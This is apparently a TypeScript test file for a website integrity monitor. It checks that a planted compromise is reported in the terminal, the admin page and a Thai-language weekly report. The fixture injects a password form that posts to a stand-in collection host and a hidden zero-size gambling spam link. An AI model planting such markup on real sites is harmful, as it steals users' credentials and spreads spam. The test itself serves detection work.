import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { recordBatch } from '../../../src/engine/record.ts'
import type { Result } from '../../../src/model/result.ts'
import { orderReport } from '../../../src/web/order-report.ts'
import { temporaryFolder, wenyam } from '../../support/cli.ts'
import { startInfectedSite } from '../../support/infected-sites/look.ts'
import { OFFICE_HOST, officePage, officeSite } from '../../support/infected-sites/office.ts'
import { START, webBed } from '../../support/web-bed.ts'

const bed = webBed()
const PLANTED = officeSite(
  officePage({
    after:
      '<form action="https://collect.stat-sample.example/in"><input type="password"></form>\n<p id="x7" style="font-size:0"><a href="https://casino-sample.example/">สล็อตเว็บตรง เครดิตฟรี</a></p>',
  }),
)
/** What whoever reads must learn: what is wrong, that nobody has accepted the state yet, where it is, how it is cleaned. */
const FACTS = ['สล็อตเว็บตรง', 'อยู่ระหว่างเรียนรู้', 'collect.stat-sample.example', '#x7', 'แจ้งผู้ให้บริการพื้นที่เว็บไซต์']

async function planted() {
  const site = await startInfectedSite(PLANTED)
  onTestFinished(() => site.close())
  return site
}

/** Records a look as the watch does, twice, so that incidents are open. */
async function record(result: Result): Promise<void> {
  const { watch, alerting, store, events, clock } = bed()
  const live = [...watch.watchlist.values()].find(
    (each) => each.kind.id === 'integrity' && each.site.id === 'khaen-nuea',
  )
  if (!live) throw new Error('integrity is not watched')
  for (const minutes of [0, 15]) {
    clock.now = START + minutes * 60_000
    const seen = { watch: live, result: { ...result, startedAt: clock.now }, blind: false }
    events.kept(await recordBatch(store, [seen], clock.now, alerting.recordIncidents))
  }
}

describe('the same findings', () => {
  test('stand in the terminal', async () => {
    const { endpoint } = await planted()
    const config = join(temporaryFolder(), 'wenyam.yaml')
    writeFileSync(
      config,
      `database: w.db\nnetwork: { reference: [], hosts: { ${OFFICE_HOST}: "${endpoint}" } }\nsites:\n  - { id: thung, name: a, url: "http://${OFFICE_HOST}/" }\n`,
    )
    const { stdout } = await wenyam('check', 'thung', '--only', 'integrity', '-c', config)
    for (const fact of FACTS) expect(stdout).toContain(fact)
    expect(stdout).toMatch(/integrity\.gambling-spam/)
  })

  test('stand on the page of the site, in its incidents and in the report', async () => {
    const { look } = await planted()
    await record(await look())
    const admin = await bed().admin()
    const page = (await admin.get('/sites/khaen-nuea')).text
    for (const fact of FACTS) expect(page).toContain(fact)

    const { store, config, clock } = bed()
    const order = { week: '2026-W48', language: 'th', format: 'html' } as const
    const [file] = (await orderReport(config, store, order, clock.now)) ?? []
    const report = new TextDecoder().decode(file?.content)
    for (const fact of FACTS) expect(report).toContain(fact)
  })
})
